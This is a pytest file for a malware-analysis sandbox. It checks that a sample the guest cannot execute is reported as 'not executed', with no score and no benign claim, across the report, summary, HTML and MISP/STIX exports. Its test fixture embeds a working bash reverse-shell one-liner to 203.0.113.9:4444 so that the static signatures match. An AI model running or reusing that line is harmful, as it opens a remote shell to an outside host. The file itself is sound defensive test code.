"""A sample the guest could not execute is never benign: verdict ``not executed``, no score,
the reason in the report, its summary, its HTML and its exports; static analysis and the
signatures still run."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest

from aasee.processing.exports_iocs import collect_indicators
from aasee.processing.exports_misp import misp_event
from aasee.processing.exports_stix import stix_bundle
from aasee.processing.models import Report
from aasee.processing.pipeline import process_results
from aasee.processing.report import report_errors, validate_report
from aasee.processing.run_meta import RunMeta, read_run_meta, write_run_meta
from aasee.processing.signatures.models import VERDICTS
from aasee.processing.summary import summarize

from .tracegen import Trace

REASON = (
    "the guest could not execute /tmp/bot: Exec format error "
    "(the guest kernel does not run this kind of program)"
)
# A script whose static analysis alone matches signatures (a reverse shell).
SAMPLE = b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"


def _failed_exec_trace() -> Trace:
    trace = Trace()
    trace.enter(117, 59, comm="python3")
    trace.leave(117, 59, -8, comm="python3")
    return trace


def _results(tmp_path: Path, **meta: Any) -> Path:
    out = tmp_path / "results"
    out.mkdir()
    (out / "trace.log").write_bytes(b"\n".join(_failed_exec_trace().lines) + b"\n")
    (out / "sample.bin").write_bytes(SAMPLE)
    fields: dict[str, Any] = {
        "analysis_id": "ne-1",
        "sample_name": "bot",
        "started": "2024-05-01T12:00:00Z",
        "ended": "2024-05-01T12:00:10Z",
        "root_pid": 117,
        "executed": False,
        "not_executed_reason": REASON,
    }
    fields.update(meta)
    write_run_meta(RunMeta(**fields), out)
    return out


@pytest.fixture(scope="module")
def not_executed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, Any]]:
    out = _results(tmp_path_factory.mktemp("ne"))
    return out, process_results(out)


def test_run_meta_defaults_and_round_trip(tmp_path: Path) -> None:
    meta = RunMeta(analysis_id="a", sample_name="s")
    assert (meta.executed, meta.not_executed_reason, meta.arch, meta.sample_arch) == (
        True,
        None,
        "x86_64",
        None,
    )
    out = _results(tmp_path)
    again = read_run_meta(out)
    assert (again.executed, again.not_executed_reason) == (False, REASON)


def test_verdict_is_not_executed_with_no_score(not_executed: tuple[Path, dict[str, Any]]) -> None:
    _, data = not_executed
    validate_report(data)
    assert data["verdict"] == "not executed"
    assert data["score"] is None
    assert data["analysis"]["executed"] is False
    assert data["analysis"]["not_executed_reason"] == REASON
    assert "not_executed_reason" not in data  # inside analysis, beside executed
    details = data["score_details"]
    assert REASON in details["reason"] and "not executed" in details["reason"]
    assert "score" not in details["components"]


def test_static_analysis_and_signatures_still_run(
    not_executed: tuple[Path, dict[str, Any]],
) -> None:
    _, data = not_executed
    assert data["static"] is not None and data["static"]["sha256"] == data["sample"]["sha256"]
    assert data["signatures"], "the static signatures of the sample still match"
    components = data["score_details"]["components"]
    assert sum(components.values()) == len(data["signatures"])


def test_the_same_run_executed_is_scored(tmp_path: Path) -> None:
    # A reason without executed=false (a stale field) does not make the run unscored.
    data = process_results(_results(tmp_path, executed=True, not_executed_reason="stale"))
    assert data["analysis"]["not_executed_reason"] is None
    assert data["verdict"] in ("benign", "suspicious", "malicious")
    assert isinstance(data["score"], float)
    assert data["score_details"]["reason"] is None


def test_schema_refuses_a_score_with_not_executed(
    not_executed: tuple[Path, dict[str, Any]],
) -> None:
    _, data = not_executed
    scored = copy.deepcopy(data)
    scored["score"] = 0.0
    assert report_errors(scored)
    unknown = copy.deepcopy(data)
    unknown["verdict"] = "not run"
    assert report_errors(unknown)
    assert set(VERDICTS) == {"benign", "suspicious", "malicious", "not executed"}


def test_summary_and_html_say_so(not_executed: tuple[Path, dict[str, Any]]) -> None:
    out, data = not_executed
    lines = summarize(Report.model_validate(data))
    assert lines[:3] == [
        "Sample not executed:",
        f"  {REASON}",
        "  nothing here shows its behaviour: the run is neither scored nor benign",
    ]
    assert "Verdict: not executed (no score):" in lines
    html = (out / "report.html").read_text()
    assert "The sample was not executed." in html
    assert "Exec format error" in html
    assert 'class="badge v-not-executed"' in html


def test_exports_never_claim_benign(not_executed: tuple[Path, dict[str, Any]]) -> None:
    _, data = not_executed
    report = Report.model_validate(data)
    indicators = collect_indicators(report)
    assert not indicators.actionable
    assert not any(f.detect for f in indicators.files)
    assert not any(o.detect for o in indicators.observables)
    event = misp_event(report)["Event"]
    assert event["threat_level_id"] == "4"
    assert "not executed" in event["info"] and "Exec format error" in event["info"]
    assert "benign" not in event["info"]
    assert not any(a["to_ids"] for a in event["Attribute"])
    bundle = stix_bundle(report)
    objects = bundle["objects"]
    (analysis,) = [o for o in objects if o["type"] == "malware-analysis"]
    assert analysis["result"] == "unknown"
    assert not [o for o in objects if o["type"] in ("malware", "indicator")]
    assert "benign" not in json.dumps(bundle)
